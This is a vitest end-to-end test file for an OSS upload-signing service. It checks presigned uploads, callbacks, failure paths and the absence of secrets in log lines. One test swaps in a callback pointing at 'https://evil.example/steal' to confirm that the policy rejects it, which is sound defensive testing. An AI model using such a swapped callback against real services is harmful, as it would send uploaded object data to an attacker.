import { createRequire } from 'node:module';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { memoryLogger } from '../../shared/log';
import { buildCallback, callbackBodyTemplate, objectUrl, presignV4, withQuery } from '../../shared/oss';
import { headObject } from '../../shared/oss-client';
import { createUploadToken, UPLOAD_TOKEN_META } from '../../shared/proof';
import { closedPort, headStatus, localOssClient, startTestServer, xmlCode } from '../helpers/local';
import { expectNoSecretsLogged, signedSecrets } from '../helpers/logs';

const OSS = createRequire(import.meta.url)('ali-oss');

let local: Awaited<ReturnType<typeof startTestServer>>;
/** Every line both functions log during these tests, at debug level; the last describe greps them. */
const logs = memoryLogger();
/** Whatever a client or OSS held that must never reach a log line. */
const handedOut: string[] = [];

beforeAll(async () => {
  // Objects these tests write straight with the bucket keys carry no upload token: keep them (the event path
  // would delete them otherwise; test/local/rejected-objects.test.ts covers that).
  local = await startTestServer({ eventEnv: { REJECTED_OBJECTS: 'keep' }, logger: logs });
});
afterAll(async () => local?.stop());

async function sign(body: object, sub = 'e2e-user') {
  const { token } = (await (
    await fetch(`${local.url}/dev/token`, { method: 'POST', body: JSON.stringify({ sub }) })
  ).json()) as { token: string };
  handedOut.push(token);
  const res = await fetch(`${local.url}/sign`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
    body: JSON.stringify(body),
  });
  expect(res.status).toBe(200);
  const signed = (await res.json()) as any;
  handedOut.push(...signedSecrets(signed));
  return signed;
}

async function records(): Promise<any[]> {
  return (await (await fetch(`${local.url}/records`)).json()) as any[];
}

const PNG = Buffer.from(
  '89504e470d0a1a0a0000000d4948445200000003000000020806000000b4f4bdc30000000c4944415478da63f8ffff3f0300050001fe0a0a0f410000000049454e44ae426082',
  'hex',
);

function postForm(fields: Record<string, string>, file: Buffer, name = 'pic.png', type = 'image/png') {
  const form = new FormData();
  for (const [k, v] of Object.entries(fields)) form.append(k, v);
  form.append('file', new Blob([new Uint8Array(file)], { type }), name);
  return form;
}

describe('sign → upload → callback → record', () => {
  it('presigned PUT', async () => {
    const signed = await sign({
      filename: 'pic.png',
      contentType: 'image/png',
      size: PNG.length,
      vars: { album: 'e2e' },
    });
    const res = await fetch(signed.put.url, { method: 'PUT', headers: signed.put.headers, body: PNG });
    expect(res.status).toBe(200);
    expect(await res.json()).toEqual({ Status: 'OK', record: 'recorded', uploadId: signed.uploadId, key: signed.key });
    const record = (await records()).find((r) => r.uploadId === signed.uploadId);
    expect(record).toMatchObject({
      key: signed.key,
      etag: res.headers.get('etag')?.replaceAll('"', ''),
      size: PNG.length,
      mimeType: 'image/png',
      user: 'e2e-user',
      vars: { 'x:album': 'e2e' },
      imageWidth: 3,
      imageHeight: 2,
      imageFormat: 'png',
      operation: 'PutObject',
      crc64: res.headers.get('x-oss-hash-crc64ecma'),
      callbackCount: 1,
    });
    // A private bucket: an anonymous read is refused, a signed one answers with the object's proof.
    const anonymous = await fetch(
      objectUrl({ bucket: local.bucket, region: 'cn-hangzhou', endpoint: local.url, addressing: 'path' }, signed.key),
      { method: 'HEAD' },
    );
    expect(anonymous.status).toBe(403);
    const head = await headObject(localOssClient(local), signed.key);
    expect(head?.meta['x-oss-meta-upload-token']).toBe(signed.put.headers['x-oss-meta-upload-token']);

    // A retry of the same PUT: the object exists, so forbid-overwrite answers 409 (the first attempt landed).
    const retry = await fetch(signed.put.url, { method: 'PUT', headers: signed.put.headers, body: PNG });
    expect(retry.status).toBe(409);
    expect(xmlCode(await retry.text())).toBe('FileAlreadyExists');
  });

  it('PostObject form', async () => {
    const signed = await sign({
      filename: 'form.png',
      contentType: 'image/png',
      size: PNG.length,
      mode: 'post',
      vars: { album: 'forms' },
    });
    const res = await fetch(signed.post.url, { method: 'POST', body: postForm(signed.post.fields, PNG) });
    expect(res.status).toBe(200);
    expect(await res.json()).toEqual({ Status: 'OK', record: 'recorded', uploadId: signed.uploadId, key: signed.key });
    expect((await records()).find((r) => r.uploadId === signed.uploadId)).toMatchObject({
      size: PNG.length,
      mimeType: 'image/png',
      user: 'e2e-user',
      vars: { 'x:album': 'forms' },
      operation: 'PostObject',
    });
  });
});

describe('independence: ali-oss signs, the local OSS accepts', () => {
  it('a PUT presigned by ali-oss with callback headers triggers the callback; one changed byte is refused', async () => {
    const key = 'uploads/ali/2026/11/independent.txt';
    const claims = {
      id: '9d2f3c1e-5b6a-4c7d-8e9f-0a1b2c3d4e5f',
      bucket: local.bucket,
      key,
      maxSize: 100,
      contentType: 'text/plain',
      user: 'ali-user',
      exp: Math.floor(Date.now() / 1000) + 600,
      vars: {},
    };
    const callback = buildCallback(
      { url: `${local.url}/callback/${createUploadToken(claims, local.tokenSecret)}`, body: callbackBodyTemplate() },
      { allowPrivateHosts: true },
    ).base64;
    const client = new OSS({
      region: 'oss-cn-hangzhou',
      bucket: local.bucket,
      accessKeyId: local.credentials.accessKeyId,
      accessKeySecret: local.credentials.accessKeySecret,
      stsToken: local.credentials.securityToken,
      // A way to renew the STS token (the same one: the test outlives none), as ali-oss advises when it is missing.
      refreshSTSToken: async () => ({
        accessKeyId: local.credentials.accessKeyId,
        accessKeySecret: local.credentials.accessKeySecret,
        stsToken: local.credentials.securityToken,
      }),
      endpoint: local.url,
      sldEnable: true,
      authorizationV4: true,
    });
    // The object carries its proof as sign-upload's headers put it there (ali-oss signs x-oss-meta-* too).
    const headers = {
      'Content-Type': 'text/plain',
      'x-oss-callback': callback,
      [UPLOAD_TOKEN_META]: createUploadToken(claims, local.tokenSecret),
    };
    const url: string = await client.signatureUrlV4('PUT', 600, { headers }, key);

    const forged = url.replace(/(x-oss-signature=)(.)/, (_m, p: string, c: string) => p + (c === 'a' ? 'b' : 'a'));
    const bad = await fetch(forged, { method: 'PUT', headers, body: 'hello' });
    expect(bad.status).toBe(403);
    expect(xmlCode(await bad.text())).toBe('SignatureDoesNotMatch');

    const res = await fetch(url, { method: 'PUT', headers, body: 'hello' });
    expect(res.status).toBe(200);
    expect(await res.json()).toEqual({ Status: 'OK', uploadId: claims.id, key, record: 'recorded' });
    expect((await records()).find((r) => r.uploadId === claims.id)).toMatchObject({
      user: 'ali-user',
      size: 5,
      mimeType: 'text/plain',
    });
  });
});

describe('failure paths end to end', () => {
  const location = () => ({
    bucket: local.bucket,
    region: 'cn-hangzhou',
    endpoint: local.url,
    addressing: 'path' as const,
  });
  const presign = (key: string, headers: Record<string, string>, now = new Date(), expiresSeconds = 600) =>
    withQuery(
      objectUrl(location(), key),
      presignV4({ method: 'PUT', bucket: local.bucket, key, headers }, local.credentials, {
        region: 'cn-hangzhou',
        now,
        expiresSeconds,
      }).query,
    );

  it('callback target down: the client gets 203 CallbackFailed and the object exists', async () => {
    const key = 'uploads/down/file.txt';
    const callback = buildCallback(
      { url: `http://127.0.0.1:${await closedPort()}/callback/x`, body: 'object=${object}' },
      { allowPrivateHosts: true },
    ).base64;
    const headers = { 'Content-Type': 'text/plain', 'x-oss-callback': callback };
    const res = await fetch(presign(key, headers), { method: 'PUT', headers, body: 'data' });
    expect(res.status).toBe(203);
    const body = await res.text();
    expect(xmlCode(body)).toBe('CallbackFailed');
    expect(body).toContain('Error status : -1.');
    expect(await headStatus(local, key)).toBe(200);
  });

  it('a callback the function refuses: 203 with the status it answered, nothing recorded', async () => {
    const key = 'uploads/refused/file.txt';
    const callback = buildCallback(
      { url: `${local.url}/callback/not-a-token`, body: 'object=${object}' },
      { allowPrivateHosts: true },
    ).base64;
    const headers = { 'Content-Type': 'text/plain', 'x-oss-callback': callback };
    const before = (await records()).length;
    const res = await fetch(presign(key, headers), { method: 'PUT', headers, body: 'data' });
    expect(res.status).toBe(203);
    expect(await res.text()).toContain('Error status : 403.');
    expect(await records()).toHaveLength(before);
  });

  it('expired URL: 403', async () => {
    const headers = { 'Content-Type': 'text/plain' };
    const res = await fetch(presign('uploads/late.txt', headers, new Date(Date.now() - 3600_000), 60), {
      method: 'PUT',
      headers,
      body: 'x',
    });
    expect(res.status).toBe(403);
    expect(await res.text()).toContain('Request has expired');
  });

  it('a client that drops a signed header: SignatureDoesNotMatch', async () => {
    const signed = await sign({ filename: 'a.txt', contentType: 'text/plain', size: 1 });
    const { 'x-oss-callback': _omit, ...headers } = signed.put.headers;
    const res = await fetch(signed.put.url, { method: 'PUT', headers, body: 'x' });
    expect(res.status).toBe(403);
    expect(xmlCode(await res.text())).toBe('SignatureDoesNotMatch');
  });

  it('oversize POST: EntityTooLarge, nothing stored', async () => {
    const signed = await sign({ filename: 'small.png', contentType: 'image/png', size: 10, mode: 'post' });
    const res = await fetch(signed.post.url, { method: 'POST', body: postForm(signed.post.fields, PNG) });
    expect(res.status).toBe(400);
    expect(xmlCode(await res.text())).toBe('EntityTooLarge');
    expect(await headStatus(local, signed.key)).toBe(404);
  });

  it('swapped callback field in a POST form: refused by the policy, nothing stored', async () => {
    const signed = await sign({ filename: 'swap.png', contentType: 'image/png', size: PNG.length, mode: 'post' });
    const evil = buildCallback({ url: 'https://evil.example/steal', body: 'object=${object}' }).base64;
    const res = await fetch(signed.post.url, {
      method: 'POST',
      body: postForm({ ...signed.post.fields, callback: evil }, PNG),
    });
    expect(res.status).toBe(403);
    const body = await res.text();
    expect(xmlCode(body)).toBe('AccessDenied');
    expect(body).toContain('Policy Condition failed');
    expect(await headStatus(local, signed.key)).toBe(404);
  });

  it('bad callback parameters: 400 InvalidArgument and no object', async () => {
    const key = 'uploads/badcb.txt';
    const headers = {
      'Content-Type': 'text/plain',
      'x-oss-callback': Buffer.from('{"callbackUrl":"ftp://x","callbackBody":"a"}').toString('base64'),
    };
    const res = await fetch(presign(key, headers), { method: 'PUT', headers, body: 'x' });
    expect(res.status).toBe(400);
    expect(xmlCode(await res.text())).toBe('InvalidArgument');
    expect(await headStatus(local, key)).toBe(404);
  });
});

describe('the log lines of every test above', () => {
  it('follow one upload by its uploadId through sign, callback and the OSS event, the user only as a hash', async () => {
    const signed = await sign({ filename: 'traced.txt', contentType: 'text/plain', size: 5 }, 'traced-user');
    expect((await fetch(signed.put.url, { method: 'PUT', headers: signed.put.headers, body: 'trace' })).status).toBe(
      200,
    );
    await local.events.idle(); // the OSS event reaches upload-event after the callback
    const lines = logs.lines.filter((l) => l.uploadId === signed.uploadId);
    const request = (fn: string) => lines.find((l) => l.message === 'request' && l.function_name === fn);
    // upload-event recorded it too, under the same upload id and user hash.
    // (The event races the callback, so either may have been first.)
    expect(lines.find((l) => l.function_name === 'upload-event')).toMatchObject({
      message: 'upload recorded',
      source: 'event',
      firstSource: expect.stringMatching(/^(callback|event)$/),
      userHash: request('sign-upload')?.userHash,
    });
    expect(request('sign-upload')).toMatchObject({ level: 'INFO', outcome: 'signed', status: 200 });
    expect(request('upload-callback')).toMatchObject({
      level: 'INFO',
      outcome: expect.stringMatching(/^(created|already-recorded)$/), // already recorded when the OSS event wrote it first
      status: 200,
      ossRequestId: expect.stringMatching(/^[0-9A-F]{24}$/),
      latency: expect.any(Number),
    });
    expect(request('upload-callback')?.userHash).toBe(request('sign-upload')?.userHash);
    // The debug lines in between (LOG_LEVEL=debug), each with the Powertools keys.
    expect(lines.map((l) => `${l.function_name} ${l.message}`)).toEqual(
      expect.arrayContaining([
        'sign-upload signed upload',
        'upload-callback upload token verified',
        'upload-callback record written',
      ]),
    );
    for (const line of lines) {
      expect(line).toMatchObject({
        service: expect.any(String),
        timestamp: expect.any(String),
        cold_start: expect.any(Boolean),
        function_request_id: expect.stringMatching(/./), // FC's context.requestId (the local bridge sets one)
      });
    }
    expect(JSON.stringify(logs.lines)).not.toContain('traced-user');
  });

  it('hold no token, signature, presigned URL, JWT or secret', () => {
    expect(logs.lines.length).toBeGreaterThan(20);
    expectNoSecretsLogged(logs.lines, [
      ...handedOut,
      local.tokenSecret,
      local.jwtSecret,
      local.credentials.accessKeySecret,
      local.credentials.securityToken,
      local.callbackKey.privatePem,
    ]);
  });
});
